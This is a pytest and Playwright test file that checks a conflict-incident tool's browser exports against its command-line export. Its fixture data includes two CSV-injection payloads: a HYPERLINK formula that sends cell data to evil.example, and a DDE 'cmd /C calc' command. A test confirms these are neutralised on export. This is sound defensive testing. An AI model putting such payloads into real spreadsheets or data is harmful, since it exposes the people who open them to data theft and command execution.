"""The list as files: pressed on the page, saved by the browser, and held against what the record says."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.driving import STATIC, need, serving, watched
from tests.browser.own import asked

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
COMMAND = "@SUM(1+9)*cmd|' /C calc'!A0"
REPORTS = (
    {
        "doc": FORMULA,
        "url": COMMAND,
        "outlet": "Iberian Monitor",
        "published": "2031-05-04",
        "text": "BEJA, May 4, 2031 - Shells killed seven people at the market of Beja on Sunday, police "
        "said.\n",
    },
    {
        "doc": "moura",
        "url": "https://post.example/moura",
        "outlet": "Meridian Post",
        "published": "2031-05-06",
        "text": "MOURA, May 6, 2031 - Gunmen shot dead two villagers in Moura on Tuesday, the mayor said.\n",
    },
    {
        "doc": "serpa",
        "outlet": "Meridian Post",
        "published": "2031-05-09",
        "text": 'SERPA, May 9, 2031 - Thousands of workers marched through Serpa on Friday, "calling for\n'
        'peace", the union said.\n',
    },
)
FIGURES = ("killed", "wounded")
SAME = ("event_type", "status", "grade", "place", "country")  # columns that the card of the list has too


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three reports: one with names that a spreadsheet would run, one with a line end in its words."""
    folder = tmp_path_factory.mktemp("exports")
    lines = "".join(json.dumps(report) + "\n" for report in REPORTS)
    (folder / "reports.jsonl").write_text(lines, encoding="utf-8")
    record = folder / "hostile.db"
    command = [sys.executable, "-m", "khaldun", "read", str(folder / "reports.jsonl"), "-o", str(record)]
    subprocess.run(command, check=True, capture_output=True)
    return record


@pytest.fixture(scope="module")
def address(hostile: Path) -> Iterator[str]:
    need((STATIC / "index.html").is_file(), "the built page (khaldun/serve/static)")
    with serving(hostile, "--read-only") as found:
        yield found


@pytest.fixture
def reader(browser: Browser, address: str) -> Iterator[Page]:
    yield from watched(browser, address, width=1440, height=900)


def saved(page: Page, words: str) -> tuple[str, bytes]:
    """The name and the bytes of the file behind a link of the export menu, by a real press."""
    link = page.get_by_role("link", name=words)
    if not link.is_visible():
        page.get_by_text("Export", exact=True).click()
    with page.expect_download() as download:
        link.click()
    return download.value.suggested_filename, Path(download.value.path()).read_bytes()


def listed(page: Page, address: str, query: str = "") -> list[dict[str, Any]]:
    """The overview under a filter, and the cards that the record has for it."""
    page.goto(f"{address}#/?{query}")
    cards: list[dict[str, Any]] = asked(address, f"incidents?limit=1000&{query}")["items"]
    word = "incident" if len(cards) == 1 else "incidents"
    expect(page.locator(".list-head h2")).to_have_text(f"{len(cards)} {word}")
    return cards


def rows_of(body: bytes) -> dict[str, dict[str, str]]:
    """The rows of a CSV by id, as a spreadsheet takes them apart."""
    text = body.decode("utf-8")
    return {row["id"]: row for row in csv.DictReader(StringIO(text, newline=""), strict=True)}


def exported(record: Path, form: str, *options: str) -> bytes:
    """What the command line writes of the whole record."""
    command = [sys.executable, "-m", "khaldun", "export", "--format", form, "--record", str(record), *options]
    return subprocess.run(command, check=True, capture_output=True).stdout


@pytest.mark.parametrize(
    "query", ["", "type=violence_against_civilians", "outlet=Meridian+Post&to=2031-05-07"]
)
def test_the_csv_holds_the_incidents_of_the_filter(reader: Page, address: str, query: str) -> None:
    cards = listed(reader, address, query)
    name, body = saved(reader, "CSV, for spreadsheets")
    assert name == "incidents.csv"
    rows = rows_of(body)
    assert set(rows) == {card["id"] for card in cards} != set()
    for card in cards:
        row = rows[card["id"]]
        assert {column: row[column] for column in SAME} == {column: card[column] or "" for column in SAME}
        assert (row["date_start"], row["date_end"]) == (card["start"] or "", card["end"] or "")
        for kind in FIGURES:
            told = card[kind] or {}
            for bound in ("low", "best", "high"):
                known = told.get(bound)
                assert row[f"{kind}_{bound}"] == ("" if known is None else str(known))
        assert card["words"] in " ".join(row["words"].split())


@pytest.mark.parametrize(
    "query", ["", "type=violence_against_civilians", "outlet=Meridian+Post&to=2031-05-07"]
)
def test_the_json_lines_hold_the_incidents_of_the_filter_whole(
    reader: Page, address: str, query: str
) -> None:
    cards = listed(reader, address, query)
    name, body = saved(reader, "JSON Lines")
    assert name == "incidents.jsonl"
    told = {one["id"]: one for one in map(json.loads, body.decode("utf-8").splitlines())}
    meta = asked(address, "meta")
    made = {"policy": meta["policy"], "versions": meta["versions"]}
    assert set(told) == {card["id"] for card in cards} != set()
    for name, found in told.items():
        whole = asked(address, f"incidents/{name}")["incident"] | made
        assert {field: found[field] for field in whole} == whole


def test_a_filter_leaves_out_what_does_not_match(reader: Page, address: str) -> None:
    everything, some = listed(reader, address), listed(reader, address, "toll=killed")
    assert 0 < len(some) < len(everything)
    _, body = saved(reader, "CSV, for spreadsheets")
    assert len(rows_of(body)) == len(some)


@pytest.mark.parametrize(
    ("words", "form"), [("CSV, for", "csv"), ("JSON Lines", "jsonl"), ("GeoJSON", "geojson")]
)
def test_without_a_filter_it_is_what_the_command_writes(
    reader: Page, address: str, hostile: Path, words: str, form: str
) -> None:
    listed(reader, address)
    assert saved(reader, words)[1] == exported(hostile, form)


def test_every_policy_has_its_columns(reader: Page, address: str, hostile: Path) -> None:
    listed(reader, address)
    name, body = saved(reader, "CSV, figures by policy")
    assert name == "incidents-by-policy.csv"
    assert body == exported(hostile, "csv", "--policies") != exported(hostile, "csv")
    listed(reader, address, "type=violence_against_civilians")
    rows = rows_of(saved(reader, "CSV, figures by policy")[1])
    whole = rows_of(body)
    assert 0 < len(rows) < len(whole) and rows == {name: whole[name] for name in rows}
    assert {row["killed_low_acled"] for row in rows.values()} != {""}


@pytest.mark.parametrize("query", ["type=violence_against_civilians", "outlet=Meridian+Post&to=2031-05-07"])
def test_a_filter_changes_no_column(reader: Page, address: str, hostile: Path, query: str) -> None:
    listed(reader, address, query)
    rows, command = rows_of(saved(reader, "CSV, for spreadsheets")[1]), rows_of(exported(hostile, "csv"))
    assert 0 < len(rows) < len(command)
    assert rows == {name: command[name] for name in rows}
    assert {row["killed_best_lowest"] for row in rows.values()} != {""}


def test_sums_are_those_of_the_command_and_add_up_to_what_the_page_says(
    reader: Page, address: str, hostile: Path
) -> None:
    listed(reader, address)
    name, body = saved(reader, "CSV, sums by month and region")
    assert name == "sums.csv" and body == exported(hostile, "csv", "--what", "sums")
    rows = list(csv.DictReader(StringIO(body.decode("utf-8"))))
    killed = sum(int(row["killed_to_sum"]) for row in rows)
    assert killed == asked(address, "timeline?by=auto")["totals"]["killed"]["least"] > 0
    expect(reader.locator(".totals")).to_contain_text(f"{killed} killed")


def test_no_cell_begins_as_a_formula(reader: Page, address: str) -> None:
    listed(reader, address, "outlet=Iberian+Monitor")
    _, body = saved(reader, "CSV, for spreadsheets")
    (row,) = rows_of(body).values()
    assert row["docs"] == f"'{FORMULA}"  # the apostrophe makes it words
    assert row["urls"].startswith("'@SUM(1+9)")
    numbers = {"lat", "lon"}  # a number may be negative
    assert not [name for name, cell in row.items() if cell[:1] in "=+-@\t\r" and cell and name not in numbers]


def test_words_over_two_lines_stay_one_cell(reader: Page, address: str) -> None:
    listed(reader, address, "type=protest&type=appeal")
    _, body = saved(reader, "CSV, for spreadsheets")
    assert any("calling for\npeace" in row["words"] for row in rows_of(body).values())
